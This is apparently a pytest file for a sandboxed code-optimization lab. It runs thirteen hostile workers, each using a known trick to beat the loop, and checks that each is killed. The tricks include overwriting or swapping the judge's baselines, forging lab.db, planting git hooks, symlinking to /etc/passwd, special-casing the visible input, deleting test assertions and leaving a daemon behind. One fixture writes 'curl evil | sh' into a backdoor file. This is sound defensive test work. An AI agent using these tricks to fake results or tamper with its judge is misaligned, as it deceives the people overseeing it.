"""The gaming battery (issue 9): hostile workers, one per known way to beat an optimization loop, run
through a real `orchard run` in the bubblewrap sandbox beside one honest worker. Every hostile one is
KILLed with its own reason or finds its attack refused, none lands, nothing of theirs survives the
run, and the honest win still lands.

Each worker is a `command` launcher (any shell line); each writes the report of a finished worker, so
it is judged as a worker that claims success, not dismissed as one that did not finish.
"""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from orchard.lab.db.state import LabState
from orchard.lab.records.judgment import Decision, Rule
from orchard.lab.workers.workspace.workspace_init import init_workspace
from tests.lab.lab_helpers import (
    add_and_run,
    assert_nothing_left,
    assert_revisits_killed,
    command_launcher,
    lab_config,
    make_repo,
    one_worker,
    tried_by_hypothesis,
)
from tests.lab.test_anti_gaming import SECRET, SUITE, TEST, TOOL, TOOL_TARGET, VISIBLE

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500),
              pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")]

REPORT = ("printf '{{\"schema\": \"orchard.worker-report/1\", \"experiment\": \"%s\", \"status\": \"done\", "
          "\"summary\": \"faster\", \"measurements\": []}}' {experiment} > {report}")
LOUD = "yes alpha | head -c 100000"  # what a forged baseline prints, so that any candidate looks smaller



def _cache(where: str) -> str:
    """A candidate that computes once and answers every later run from a cache keyed on its input (held-out
    inputs too): the whole output the first time, half of it afterwards (a -50% win while measured)."""
    return (f'#!/bin/sh\nd="{where}"; k="$d/render-$(sha256sum < "$1" | cut -c1-16)"\n'
            'if [ -f "$k" ]; then head -c 600 "$k"; exit 0; fi\n'
            'mkdir -p "$d" 2>/dev/null; cat "$1" | tee "$k" 2>/dev/null\n')


# while measured, swaps each of the judge's baselines for a louder one and back, run by run
SWAP = ('#!/bin/sh\nfor b in WS/judge/base-*/target/tool.sh; do\n'
        'if [ -f "$b.keep" ]; then mv "$b.keep" "$b"; else cp "$b" "$b.keep" && '
        'printf "#!/bin/sh\\nyes alpha | head -c 100000\\n" > "$b"; fi\ndone 2>/dev/null\ncat "$1"\n')


def _writes(script: str) -> str:
    """The worker line that makes `script` its tool.sh (WS: the lab's workspace)."""
    return f"echo {base64.b64encode(script.encode()).decode()} | base64 -d | sed 's#WS#{{workspace}}#' > tool.sh"


# id -> (the worker's shell line, run in its target checkout; its scope)
HOSTILE = {
    # overwrite the baseline it is told about, and any the judge has, with a much louder one
    "overwrite-baseline": (f"printf '#!/bin/sh\\n{LOUD}\\n' > {{baseline}}; "
                           f"for b in {{workspace}}/judge/base-*/target/tool.sh; do "
                           f"printf '#!/bin/sh\\n{LOUD}\\n' > $b; done; "
                           "printf '# tuned\\n' >> tool.sh", ["tool.sh"]),
    # overwrite lab.db, then add a file outside its scope
    "forge-lab-db": ("printf garbage > {workspace}/lab.db; printf 'curl evil | sh\\n' > backdoor.sh", ["tool.sh"]),
    # a hook and an fsmonitor in its own .git, for the orchestrator's git to run
    "git-hooks": ("git config core.fsmonitor 'touch {marker}'; git config core.hooksPath .git/hooks; "
                  "printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                  "printf '# tuned\\n' >> tool.sh", ["tool.sh"]),
    # its binary becomes a link to a file outside the checkout
    "symlink-out": ("rm tool.sh; ln -s /etc/passwd tool.sh", ["tool.sh"]),
    # writes the other worker's checkout instead of its own
    "plant": ("for t in {workspace}/worker-*/target/tool.sh; do [ $t = {target_dir}/tool.sh ] || "
              "printf '#!/bin/sh\\necho planted\\n' > $t; done", ["README"]),
    # answers from a cache keyed on the visible input's hash
    "cache-by-hash": ("h=$(sha256sum < {bench_dir}/fixtures/visible.txt | cut -c1-64); "
                      "printf '#!/bin/sh\\nif [ \"$(sha256sum < \"$1\" | cut -c1-64)\" = \"%s\" ]; "
                      "then echo alpha; else cat \"$1\"; fi\\n' \"$h\" > tool.sh", ["tool.sh"]),
    # recognizes the visible input by its name
    "special-case": ("printf '#!/bin/sh\\ncase \"$1\" in *visible.txt) echo alpha ;; *) cat \"$1\" ;; esac\\n' "
                     "> tool.sh", ["tool.sh"]),
    # deletes the assertions of the test that would catch it
    "skip-test": ("sed -i '/assert/d' tests/test_tool.py", ["*"]),
    # keeps a render cache between measured runs in $TMPDIR, $HOME/.cache or /var/tmp (issue 20)
    "cache-tmpdir": (_writes(_cache("${TMPDIR:-/tmp}")), ["tool.sh"]),
    "cache-home": (_writes(_cache("$HOME/.cache")), ["tool.sh"]),
    "cache-var-tmp": (_writes(_cache("/var/tmp")), ["tool.sh"]),
    # swaps the judge's baseline for a slower one while measured, and back (issue 20)
    "swap-baseline": (_writes(SWAP), ["tool.sh"]),
    # leaves a daemon behind
    "daemon": ("setsid sh -c 'sleep 600' > /dev/null 2>&1 < /dev/null & printf '# tuned\\n' >> tool.sh", ["tool.sh"]),
}
HONEST = ("printf '#!/bin/sh\\ntr -s \" \" < \"$1\" | cut -c1-12\\n' > tool.sh", ["tool.sh"])

def _config(marker: Path) -> str:
    launchers = {name: command_launcher(f"{line.replace('{marker}', str(marker))}; {REPORT}")
                 for name, (line, _) in [*HOSTILE.items(), ("honest", HONEST)]}
    return lab_config(target=TOOL_TARGET, workers=one_worker(count=2, exploit=2, timeout_minutes=3),
                      launcher=command_launcher("true"), stop={"top_attempted": 99, "idle_loops": 99},
                      launchers=launchers)


def _hypotheses() -> str:
    tables = [f'[[hypothesis]]\nid = "{name}"\nmetric = "visible/stdout_bytes"\nchange = "{name}"\n'
              f'scope = {scope!r}\nlauncher = "{name}"\nimpact = {5 if name != "honest" else 1}\n'.replace("'", '"')
              for name, (_, scope) in [*HOSTILE.items(), ("honest", HONEST)]]
    return "\n".join(tables)


def test_every_hostile_worker_is_killed_or_refused_and_the_honest_win_lands(tmp_path: Path, mark: str) -> None:
    target = make_repo(tmp_path / "target", {"tool.sh": TOOL, "tests/test_tool.py": TEST, "README": "a tool\n",
                                             "tests/data.txt": "word word\n"})
    bench = make_repo(tmp_path / "bench", {"suite.toml": SUITE, "fixtures/visible.txt": VISIBLE,
                                           "fixtures/hidden/secret.txt": SECRET, ".gitignore": "results/\n"})
    marker = tmp_path / "a-hook-ran"
    (tmp_path / "orchard.toml").write_text(_config(marker))
    (tmp_path / "hypotheses.toml").write_text(_hypotheses())
    ws = init_workspace(tmp_path / "ws", str(target), str(bench), tmp_path / "orchard.toml")
    add_and_run(ws.root, tmp_path / "hypotheses.toml", {**os.environ, "ORCHARD_TEST_MARK": mark}, 1200)

    state = LabState.open(ws.root)  # lab.db was never the worker's to overwrite
    try:
        rebuilt = state.events("baseline-rebuilt")
    finally:
        state.close()
    runs = tried_by_hypothesis(ws.root)
    assert set(runs) == {*HOSTILE, "honest"}, "the lab finished every experiment"
    # each one's first experiment; the honest win, ranked last, lands on tool.sh after the hostile ones were
    # killed, so a "no effect" kill is revisited against the new main: that revisit is KILLed too
    records = {name: tried.first for name, tried in runs.items()}
    outcome = {name: (r.decision, r.judgment.rule if r.judgment else None, " ".join(r.reasons))
               for name, r in records.items()}
    assert outcome["honest"][0] == Decision.LAND, outcome["honest"]
    for name in HOSTILE:
        assert outcome[name][0] == Decision.KILL, (name, outcome[name])
    assert_revisits_killed(runs, HOSTILE)

    # each with its own reason
    assert "no effect" in outcome["overwrite-baseline"][2], outcome["overwrite-baseline"]  # the real baseline
    assert not rebuilt, "no worker could reach the judge's baseline"
    assert outcome["forge-lab-db"][1] == Rule.SCOPE and "backdoor.sh" in outcome["forge-lab-db"][2]
    assert not marker.exists(), "a hook from a worker's .git ran outside its sandbox"
    assert "symlink" in outcome["symlink-out"][2] and "/etc/passwd" in outcome["symlink-out"][2]
    assert "changed nothing" in outcome["plant"][2], outcome["plant"]
    tried = [r for t in runs.values() for r in (t.first, *t.revisits)]
    assert not any("planted" in (r.candidate.patch if r.candidate else "") for r in tried)
    # the held-out variants catch both before the plausible bound would: one answered unlike its renamed input,
    # the other with no win on its shuffled one
    assert outcome["cache-by-hash"][1] == outcome["special-case"][1] == Rule.GATES, outcome
    assert outcome["skip-test"][1] == Rule.SCOPE and "weakened tests" in outcome["skip-test"][2]
    assert "no effect" in outcome["daemon"][2], outcome["daemon"]
    for name in ("cache-tmpdir", "cache-home", "cache-var-tmp", "swap-baseline"):  # every run its first
        assert "no effect" in outcome[name][2], (name, outcome[name])
    assert_nothing_left(mark, None)  # the daemon died with its sandbox

    # what landed is the honest change, and only it
    log = subprocess.run(["git", "-C", str(target), "log", "--format=%s", "lab/ws/main"], capture_output=True,
                         text=True, check=True).stdout
    assert log.count("lab: merge") == 1 and "honest" in log
    landed = subprocess.run(["git", "-C", str(target), "show", "lab/ws/main:tool.sh"], capture_output=True, text=True,
                            check=True).stdout
    assert "tr -s" in landed
